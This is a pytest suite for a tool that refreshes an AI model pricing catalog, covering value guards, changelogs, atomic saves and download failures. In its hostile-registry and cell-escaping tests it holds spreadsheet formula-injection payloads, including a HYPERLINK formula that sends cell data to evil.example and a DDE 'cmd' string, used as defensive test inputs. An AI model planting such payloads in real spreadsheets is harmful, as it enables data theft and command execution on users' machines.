"""Refresh: fetch from a loopback server, guard, diff, audit, atomic save, offline safety."""

from __future__ import annotations

import copy
import errno
import json
import os
import socket
from datetime import date

import pytest

from pricing.prices import fetch as fetch_module
from pricing.prices.catalog import Catalog
from pricing.prices.changelog import read_changelog
from pricing.prices.fetch import FetchError, check_url, fetch
from pricing.prices.guards import judge, safe_cell_text
from pricing.prices.refresh import plan_refresh, refresh, report_lines
from pricing.prices.store import bundled_catalog, load_catalog
from tests.test_refresh_support import NOW, encode, registry_dict, sha256, store_bytes

pytestmark = pytest.mark.usefixtures("no_second_source", "no_backoff")  # tests/conftest.py

BASE = registry_dict()


def variant(**rows) -> dict:
    """BASE with some rows replaced (None deletes the row)."""
    data = copy.deepcopy(BASE)
    for key, row in rows.items():
        if row is None:
            data.pop(key)
        else:
            data[key] = row
    return data


def scaled(key: str, field: str, factor: float) -> dict:
    row = dict(BASE[key])
    row[field] *= factor
    return row


def seeded(server, store) -> dict[str, bytes | None]:
    """A store with a catalog, a changelog line and a last-good file; returns their bytes."""
    url = server.serve(
        "/seed.json", encode(variant(**{"gpt-4o": scaled("gpt-4o", "input_cost_per_token", 1.2)}))
    )
    result = refresh(url, store=store, now=NOW)
    assert result.status == "applied", result.message
    before = store_bytes(store)
    assert all(before[n] for n in ("catalog.json", "changelog.jsonl", "registry-last-good.json"))
    return before


# ---------------------------------------------------------------- the happy paths


def test_realistic_registry_changes_nothing_but_the_as_of_date(server, store):
    body = encode(BASE)
    assert len(body) > 1_000_000 and len(BASE) > 5000
    url = server.serve("/registry.json", body)
    seen = []
    result = refresh(url, store=store, now=NOW, progress=lambda n, total: seen.append((n, total)))
    assert result.status == "unchanged", result.message
    assert result.applied == [] and result.held_back == [] and result.vanished == []
    assert result.models_in_download == len(BASE) - 2
    assert result.as_of == date(2026, 12, 1)
    assert seen[-1] == (len(body), len(body)) and [n for n, _ in seen] == sorted(n for n, _ in seen)
    saved = load_catalog(store)
    assert saved.as_of == date(2026, 12, 1) and saved.source == url
    fields = ("input", "output", "cached_input", "ft_input", "training_per_1m", "field_status")
    for new, old in zip(saved.models, bundled_catalog().models, strict=True):
        assert [getattr(new, f) for f in fields] == [getattr(old, f) for f in fields]
    assert (store / "registry-last-good.json").read_bytes() == body
    assert not (store / "changelog.jsonl").exists()
    assert json.loads((store / "held-back.json").read_text())["held_back"] == []


def test_a_normal_change_is_applied_and_logged(server, store):
    data = variant(**{"gpt-4o": scaled("gpt-4o", "input_cost_per_token", 1.2)})
    body = encode(data)
    url = server.serve("/change.json", body)
    result = refresh(url, store=store, now=NOW)
    assert result.status == "applied"
    assert [(c.model, c.field, c.old, c.new) for c in result.applied] == [("gpt-4o", "input", 2.5, 3.0)]
    assert load_catalog(store).get("gpt-4o").input == 3.0
    [record] = read_changelog(store / "changelog.jsonl")
    assert (record.model, record.field, record.old, record.new) == ("gpt-4o", "input", 2.5, 3.0)
    assert record.source == url and record.sha256 == sha256(body)
    assert record.timestamp == "2026-12-01T09:30:00+00:00"
    # The log is append-only: a second change adds a line, the first stays.
    data["gpt-4o"]["output_cost_per_token"] *= 1.1
    refresh(server.serve("/change2.json", encode(data)), store=store, now=NOW)
    records = read_changelog(store / "changelog.jsonl")
    assert [r.field for r in records] == ["input", "output"] and records[0] == record


def test_ten_x_jump_is_held_back_until_accepted(server, store):
    jump = variant(**{"ft:gpt-4o-2024-08-06": scaled("ft:gpt-4o-2024-08-06", "input_cost_per_token", 20)})
    url = server.serve("/jump.json", encode(jump))
    result = refresh(url, store=store, now=NOW)
    assert result.status == "unchanged" and result.applied == []
    [held] = result.held_back
    assert (held.key, held.old, held.new, held.acceptable) == ("gpt-4o.ft_input", 3.75, 75.0, True)
    assert "20x" in held.reason
    assert load_catalog(store).get("gpt-4o").ft_input == 3.75
    on_disk = json.loads((store / "held-back.json").read_text())
    assert [h["key"] for h in on_disk["held_back"]] == ["gpt-4o.ft_input"]

    # Any id or alias, any case; the workbook passes the same strings as a set.
    result = refresh(url, store=store, now=NOW, accepted={"GPT-4o.ft_input"})
    assert [(c.field, c.new, c.note) for c in result.applied] == [("ft_input", 75.0, "accepted")]
    assert result.held_back == [] and result.unused_accepts == []
    assert load_catalog(store).get("gpt-4o").ft_input == 75.0


@pytest.mark.parametrize(
    ("value", "acceptable"),
    [(1e-9, True), (0, True), (-1e-6, False), ("0.000003", False), (None, None)],
)
def test_suspicious_values(server, store, value, acceptable):
    row = dict(BASE["claude-haiku-4-5"], output_cost_per_token=value)
    result = refresh(
        server.serve(f"/s-{value}.json", encode(variant(**{"claude-haiku-4-5": row}))),
        store=store,
        now=NOW,
    )
    assert result.ok and result.applied == []
    assert load_catalog(store).get("claude-haiku-4-5").output == 5.0  # never erased
    if acceptable is None:  # JSON null = absent: kept, not reported as held back
        assert result.held_back == [] and "claude-haiku-4-5.output" in result.kept
        return
    [held] = result.held_back
    assert held.acceptable is acceptable
    accepted = refresh(
        server.serve(f"/s-{value}.json", encode(variant(**{"claude-haiku-4-5": row}))),
        store=store,
        now=NOW,
        accepted=[held.key],
    )
    assert bool(accepted.applied) is acceptable


def test_nan_and_infinity_are_never_applied():
    assert judge(3.0, float("nan")).action == "invalid"
    assert judge(3.0, float("inf")).action == "invalid"
    assert judge(3.0, True).action == "invalid"
    assert judge(3.0, {"nested": 1}).action == "invalid"
    assert judge(None, 1e-6).action == "apply"
    assert judge(3.0, 3.1e-6).action == "apply"
    assert judge(3.0, 3.1e-5).action == "hold" and judge(3.0, 2.9e-7).action == "hold"
    assert judge(3.0, 3e-5).action == "hold"  # exactly 10x is held back (issue 15)
    assert judge(3.0, 3e-7).action == "hold"  # and a tenth
    assert judge(3.0, 2.99e-5).action == "apply" and judge(3.0, 3.01e-7).action == "apply"  # 9.97x
    assert judge(None, 1.0).action == "hold"  # 1,000,000 USD per 1M tokens


def test_missing_field_never_erases_and_vanished_model_keeps_its_rates(server, store):
    row = {k: v for k, v in BASE["claude-sonnet-4-6"].items() if k != "cache_read_input_token_cost"}
    data = variant(**{"claude-sonnet-4-6": row, "mistral/mistral-small-latest": None})
    result = refresh(server.serve("/vanished.json", encode(data)), store=store, now=NOW)
    assert result.ok and result.applied == []
    assert result.vanished == [
        "mistral-small: registry key 'mistral/mistral-small-latest' not in the download"
    ]
    assert "claude-sonnet-4-6.cached_input" in result.kept
    saved, old = load_catalog(store), bundled_catalog()
    assert saved.get("claude-sonnet-4-6").cached_input == old.get("claude-sonnet-4-6").cached_input
    kept, before = saved.get("mistral-small"), old.get("mistral-small")
    assert kept.model_dump() == before.model_dump()  # rates, source and verified date kept


def test_published_rate_replaces_an_inferred_one(server, store):
    old = bundled_catalog()
    model = next(m for m in old.models if m.status_of("cached_input") == "inferred" and m.registry_key)
    key = model.registry_key
    row = dict(BASE[key], cache_read_input_token_cost=model.input * 0.2 / 1e6)
    result = refresh(server.serve("/inferred.json", encode(variant(**{key: row}))), store=store, now=NOW)
    assert ("cached_input", round(model.input * 0.2, 6)) in [(c.field, c.new) for c in result.applied]
    entry = load_catalog(store).get(model.id)
    assert entry.status_of("cached_input") == "published"
    assert entry.cached_input == round(model.input * 0.2, 6)
    # Same value as the inferred one: only the status changes, and that is logged too.
    row = dict(BASE[key], cache_read_input_token_cost=model.cached_input / 1e6)
    store2 = store.parent / "store2"
    result = refresh(server.serve("/inferred2.json", encode(variant(**{key: row}))), store=store2, now=NOW)
    assert [(c.model, c.field, c.old, c.new) for c in result.applied] == [
        (model.id, "cached_input status", "inferred", "published")
    ]


def test_inferred_rates_follow_their_base(server, store):
    old = bundled_catalog()
    model = next(m for m in old.models if m.status_of("batch_input") == "inferred" and m.registry_key)
    key = model.registry_key
    result = refresh(
        server.serve("/follow.json", encode(variant(**{key: scaled(key, "input_cost_per_token", 2)}))),
        store=store,
        now=NOW,
    )
    changed = {c.field: c for c in result.applied if c.model == model.id}
    assert changed["input"].new == model.input * 2
    assert changed["batch_input"].new == model.input  # 50% of the new input
    assert changed["batch_input"].note.startswith("inferred: batch input = 50%")
    assert load_catalog(store).get(model.id).status_of("batch_input") == "inferred"


def test_curated_fine_tuning_rates_are_never_overwritten(server, store):
    data = variant()
    data["ft:gpt-4.1-2025-04-14"].update(
        training_per_1m=1, hosting_per_hour=0, storage_per_month=99, training_cost_per_token=1e-6
    )
    data["gpt-4.1"]["training_per_1m"] = 0.01
    refresh(server.serve("/curated.json", encode(data)), store=store, now=NOW)
    saved, old = load_catalog(store).get("gpt-4.1"), bundled_catalog().get("gpt-4.1")
    curated = (
        "training_per_1m",
        "training_per_hour",
        "hosting_per_hour",
        "hosting_per_month",
        "storage_per_month",
        "min_job_charge",
        "jobs_available_until",
        "shutdown_date",
        "fine_tuning_source",
        "fine_tuning_verified",
    )
    assert [getattr(saved, f) for f in curated] == [getattr(old, f) for f in curated]
    assert load_catalog(store).fine_tuning_as_of == bundled_catalog().fine_tuning_as_of


def test_hostile_registry(server, store):
    data = variant(
        **{
            '=HYPERLINK("http://evil.example/?"&A1,"click")': {"input_cost_per_token": 1e-6},
            "+cmd|' /C calc'!A0": {"input_cost_per_token": 1e-6, "mode": "=1+1"},
            "gpt-5": dict(BASE["gpt-5"], input_cost_per_token=1e300, output_cost_per_token="=2*3"),
            "gpt-5-nano": dict(
                BASE["gpt-5-nano"],
                input_cost_per_token={"nested": [1, {"x": 2}]},
                cache_read_input_token_cost=[1e-7],
            ),
            "gpt-5.1": [1, 2, 3],  # a catalog key whose row is not an object: treated as vanished
            "loop-a": {"alias_of": "loop-b"},
            "loop-b": {"alias_of": "loop-a"},
            "claude-haiku-4-5": {"alias_of": "sample_spec"},
        }
    )
    result = refresh(server.serve("/hostile.json", encode(data)), store=store, now=NOW)
    assert result.ok, result.message
    assert result.applied == []
    held = {h.key: h for h in result.held_back}
    assert held["gpt-5.input"].acceptable and "USD per 1M" in held["gpt-5.input"].reason
    assert not held["gpt-5.output"].acceptable and held["gpt-5.output"].raw == "'=2*3'"
    assert not held["gpt-5-nano.input"].acceptable and not held["gpt-5-nano.cached_input"].acceptable
    assert any(v.startswith("gpt-5.1:") for v in result.vanished)
    assert any(v.startswith("claude-haiku-4-5:") for v in result.vanished)
    assert load_catalog(store).model_dump(
        exclude={"as_of", "source", "models"}
    ) == bundled_catalog().model_dump(exclude={"as_of", "source", "models"})
    for text in (held["gpt-5.output"].raw, *data):
        assert not str(safe_cell_text(text)).startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('=HYPERLINK("x")', '\'=HYPERLINK("x")'),
        ("+1", "'+1"),
        ("-1+A1", "'-1+A1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("gpt-4o", "gpt-4o"),
        ("", ""),
        (3.5, 3.5),
        (None, None),
    ],
)
def test_safe_cell_text(text, expected):
    assert safe_cell_text(text) == expected


def test_dry_run_writes_nothing(server, store):
    before = seeded(server, store)
    url = server.serve(
        "/dry.json", encode(variant(**{"gpt-5": scaled("gpt-5", "output_cost_per_token", 1.5)}))
    )
    result = refresh(url, store=store, now=NOW, dry_run=True)
    assert result.status == "dry-run"
    assert {(c.model, c.field) for c in result.applied} >= {
        ("gpt-5", "output"),
        ("gpt-4o", "input"),
    }
    assert store_bytes(store) == before


# ---------------------------------------------------------------- failures leave the store whole


def closed_port_url() -> str:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    return f"http://127.0.0.1:{port}/registry.json"


def small(n: int) -> dict:
    keys = [k for k in BASE if not k.startswith("filler/")]
    return {k: BASE[k] for k in keys} | {f"f{i}": {"input_cost_per_token": 1e-6} for i in range(n)}


FAILURES = {
    "truncated": (200, encode(BASE)[: len(encode(BASE)) // 2], "not valid JSON"),
    "invalid-json": (200, b'{"gpt-4o": {"input_cost_per_token": 1e-6,}}', "not valid JSON"),
    "html": (200, b"<!DOCTYPE html><html><body>Rate limited</body></html>", "HTML page"),
    "404": (404, b"Not Found", "answered 404"),
    "500": (500, b"oops", "answered 500"),
    "list": (200, b"[1, 2, 3]", "JSON list"),
    "too-few": (200, encode(small(0)), "fewer than 50"),
    "shrunk": (200, encode(small(2000)), "under half"),
    "other-file": (200, encode({f"m{i}": {"x": 1} for i in range(5000)}), "only 0 of"),
}


@pytest.mark.parametrize("case", sorted(FAILURES))
def test_bad_download_is_rejected_and_store_unchanged(server, store, case, capsys):
    before = seeded(server, store)
    status, body, expected = FAILURES[case]
    url = server.serve(f"/bad-{case}.json", body, status=status)
    result = refresh(url, store=store, now=NOW)
    assert result.status == "rejected" and not result.ok
    assert expected in result.message
    assert result.message.endswith("prices unchanged (as of 2026-12-01).")
    assert store_bytes(store) == before
    assert result.catalog == load_catalog(store)


def test_server_errors_are_retried_a_bounded_number_of_times(server, store):
    url = server.serve("/flaky.json", b"busy", status=503)
    result = refresh(url, store=store, now=NOW)
    assert result.status == "rejected" and server.hits("/flaky.json") == fetch_module.RETRIES + 1


def test_offline_is_one_clear_sentence_and_changes_nothing(server, store):
    before = seeded(server, store)
    result = refresh(closed_port_url(), store=store, now=NOW)
    assert result.status == "unreachable"
    assert result.message == "Could not reach 127.0.0.1: prices unchanged (as of 2026-12-01)."
    assert store_bytes(store) == before


def test_plain_http_elsewhere_is_refused_without_connecting(store):
    result = refresh("http://example.com/registry.json", store=store, now=NOW)
    assert result.status == "rejected" and "Refused plain-http" in result.message
    assert store_bytes(store) == dict.fromkeys(store_bytes(store))  # nothing written
    for url in ("ftp://example.com/r.json", "https://", "data:text/plain,{}"):
        with pytest.raises(FetchError) as err:
            fetch(url) if url.startswith("https") else check_url(url)
        assert err.value.kind == "refused"
    check_url("http://localhost:1/x")
    check_url("http://[::1]:1/x")
    check_url("https://raw.githubusercontent.com/x")


def test_redirect_to_plain_http_is_refused(server, store):
    url = server.serve("/moved.json", b"", status=302, Location="http://example.com/r.json")
    result = refresh(url, store=store, now=NOW)
    assert result.status == "rejected" and "Refused the redirect" in result.message
    assert "to http://example.com/r.json" in result.message


def test_size_cap(server, store, tmp_path):
    url = server.serve("/big.json", encode(BASE))
    result = refresh(url, store=store, now=NOW, max_bytes=100_000)
    assert result.status == "rejected" and "cap" in result.message
    path = tmp_path / "big.json"
    path.write_bytes(encode(BASE))
    with pytest.raises(FetchError, match="cap"):
        fetch(str(path), max_bytes=100_000)


def test_local_file_source(store, tmp_path):
    path = tmp_path / "registry.json"
    path.write_bytes(encode(BASE))
    result = refresh(str(path), store=store, now=NOW)
    assert result.status == "unchanged" and result.source == str(path.resolve())
    assert refresh(path.as_uri(), store=store, now=NOW).status == "unchanged"
    missing = refresh(str(tmp_path / "nope.json"), store=store, now=NOW)
    assert missing.status == "rejected" and "Could not read" in missing.message


@pytest.mark.parametrize(
    "fail_at",
    [
        "fsync-1",
        "fsync-2",
        "fsync-3",
        "fsync-4",
        "replace-1",
        "replace-2",
        "replace-3",
        "write-log",
    ],
)
def test_a_failed_write_leaves_the_previous_store_whole(server, store, monkeypatch, fail_at):
    """Disk full at each step of the save: catalog, changelog and last-good stay byte-identical."""
    before = seeded(server, store)
    url = server.serve(
        "/next.json", encode(variant(**{"gpt-5": scaled("gpt-5", "output_cost_per_token", 1.5)}))
    )
    name, _, nth = fail_at.partition("-")
    calls = {"n": 0}
    real = {"fsync": os.fsync, "replace": os.replace, "write": os.write}[name]

    def failing(*args):
        calls["n"] += 1
        if name == "write" or calls["n"] == int(nth):
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(*args)

    monkeypatch.setattr(os, name, failing)
    result = refresh(url, store=store, now=NOW)
    monkeypatch.undo()
    assert calls["n"] >= 1, "the failure was never triggered"
    assert result.status == "failed", (fail_at, result.message)
    assert "No space left on device" in result.message
    assert result.message.endswith("prices unchanged (as of 2026-12-01).")
    assert store_bytes(store) == before
    assert sorted(p.name for p in store.iterdir()) == sorted(n for n, b in before.items() if b)
    assert refresh(url, store=store, now=NOW).status == "applied"  # and it works afterwards


def test_plan_is_pure_and_reports_unknown_accepts():
    catalog = bundled_catalog()
    before = catalog.model_dump_json()
    plan = plan_refresh(
        catalog,
        BASE,
        source="s",
        today=date(2027, 1, 1),
        accepted=["gpt-4o.input", "no-such-model.input", "gpt-4o.colour"],
    )
    assert catalog.model_dump_json() == before
    assert plan.applied == [] and isinstance(plan.catalog, Catalog)
    assert plan.catalog.as_of == date(2027, 1, 1)
    assert plan.unused_accepts == ["no-such-model.input", "gpt-4o.colour", "gpt-4o.input"]


def test_cli_report_says_what_an_unmatched_accept_should_have_been(tmp_path, server):
    url = server.serve("/same.json", encode(BASE))
    result = refresh(url, store=tmp_path / "store", now=NOW, accepted=["gpt-4o.colour"])
    lines = "\n".join(report_lines(result))
    assert "--accept matched no held-back change" in lines and "gpt-4o.colour" in lines
